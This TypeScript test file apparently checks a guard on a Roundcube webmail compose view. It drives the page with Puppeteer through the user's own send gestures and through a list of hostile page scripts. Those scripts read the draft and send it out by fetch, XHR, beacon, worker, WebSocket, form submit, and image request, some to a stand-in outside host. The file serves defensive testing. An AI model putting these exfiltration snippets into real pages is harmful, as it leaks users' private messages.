import type { Page } from 'puppeteer-core'
import type { ComposeView } from './compose-view.ts'

/**
 * One way out of a compose view. `asks`: the guard opens its panel; without the guard it `carries` the draft to the ordinary
 * server at once, and `ends` the view or leaves it busy.
 */
export interface Exit {
  readonly name: string
  readonly asks: boolean
  readonly carries: boolean
  readonly ends: boolean
  take(view: ComposeView): Promise<void>
}

const byScript = (name: string, carries: boolean, script: (text: string) => unknown, ends = false): Exit => ({
  name, asks: false, carries, ends,
  take: async ({ page }) => {
    await page.evaluate((source, text) => {
      try {
        // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- plays a hostile script of the page
        new Function('text', `return (${source})(text)`)(text)
      } catch {
        // A hooked function may throw into the page; the page's trouble.
      }
    }, script.toString(), await draftText(page))
  },
})

/** What a script of the page can read of the draft. */
async function draftText(page: Page): Promise<string> {
  return page.evaluate(() => {
    const frame = document.querySelector<HTMLIFrameElement>('#composebody_ifr')
    const field = document.querySelector<HTMLTextAreaElement>('#composebody')
    return [document.querySelector<HTMLInputElement>('[name="_subject"]')?.value, frame?.contentDocument?.body.innerText ?? field?.value].join('\n')
  })
}

const focusSend = (page: Page): Promise<void> => page.focus('.formbuttons .send, button.send')

/** What the practitioner's own hands can do. */
export const GESTURES: readonly Exit[] = [
  { name: 'mouse on Send', asks: true, carries: true, ends: true, take: (view) => view.press() },
  { name: 'Enter on Send', asks: true, carries: true, ends: true, take: async ({ page }) => { await focusSend(page); await page.keyboard.press('Enter') } },
  { name: 'Space on Send', asks: true, carries: true, ends: true, take: async ({ page }) => { await focusSend(page); await page.keyboard.press(' ') } },
  {
    name: 'Ctrl+Enter in the editor', asks: false, carries: false, ends: false,
    take: async (view) => {
      await (await view.editor()).focus()
      await view.page.keyboard.down('Control')
      await view.page.keyboard.press('Enter')
      await view.page.keyboard.up('Control')
    },
  },
  { name: 'Save', asks: false, carries: true, ends: true, take: ({ page }) => page.click('a.save.draft') },
]

/** What scripts of the page can do, those of the webmail and hostile ones. */
export const SCRIPTS: readonly Exit[] = [
  byScript('rcmail.command(send)', true, () => (window as never as { rcmail: { command(name: string, what: string): void } }).rcmail.command('send', ''), true),
  byScript('rcmail.command(savedraft)', true, () => (window as never as { rcmail: { command(name: string, what: string): void } }).rcmail.command('savedraft', ''), true),
  byScript('rcmail.submit_messageform', true, () => (window as never as { rcmail: { submit_messageform(draft: boolean): void } }).rcmail.submit_messageform(false), true),
  byScript('click() on Send', true, () => { document.querySelector<HTMLElement>('.formbuttons .send, button.send')?.click() }, true),
  byScript('form.submit()', true, () => { HTMLFormElement.prototype.submit.call(document.querySelector('form[name="form"]')!) }, true),
  byScript('requestSubmit()', true, () => { document.querySelector<HTMLFormElement>('form[name="form"]')!.requestSubmit() }, true),
  byScript('submit of a form of its own', true, (text) => {
    const form = Object.assign(document.createElement('form'), { method: 'post', action: './?_task=mail&_action=save', target: '_spy' })
    form.append(Object.assign(document.createElement('textarea'), { name: 'x', value: text }))
    document.body.append(form)
    form.submit()
  }),
  byScript('fetch', true, (text) => { void fetch('./?_task=mail&_action=save', { method: 'POST', body: text }).catch(() => 0) }),
  byScript('fetch to a harmless address', true, (text) => { void fetch('./?_task=mail&_action=refresh', { method: 'POST', body: text }).catch(() => 0) }),
  byScript('fetch with the text in the address', true, (text) => { void fetch(`./?_task=mail&q=${encodeURIComponent(text)}`).catch(() => 0) }),
  byScript('fetch to another site', true, (text) => { void fetch('http://annuaire.localhost:8765/', { method: 'POST', mode: 'no-cors', body: text }).catch(() => 0) }),
  byScript('fetch of a fresh frame', true, (text) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    void frame.contentWindow?.fetch(new URL('./?_task=mail&_action=save', location.href), { method: 'POST', body: text }).catch(() => 0)
  }),
  byScript('XHR', true, (text) => {
    const request = new XMLHttpRequest()
    request.open('POST', './?_task=mail&_action=save')
    request.send(text)
  }),
  byScript('beacon', true, (text) => navigator.sendBeacon('./?_task=mail&_action=save', text)),
  byScript('worker', true, (text) => {
    const source = 'onmessage = ({ data }) => fetch(data.url, { method: "POST", body: data.text })'
    const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })))
    worker.postMessage({ url: new URL('./?_task=mail&_action=save', location.href).href, text })
  }),
  byScript('a new socket', true, (text) => {
    const socket = new WebSocket(`ws://${location.host}/${encodeURIComponent(text.slice(0, 300))}`)
    socket.onopen = () => socket.send(text)
  }),
  byScript('a picture of another site', true, (text) => { new Image().src = `http://annuaire.localhost:8765/?q=${encodeURIComponent(text)}` }),
  byScript('localStorage', false, (text) => localStorage.setItem('copy', text)),
]
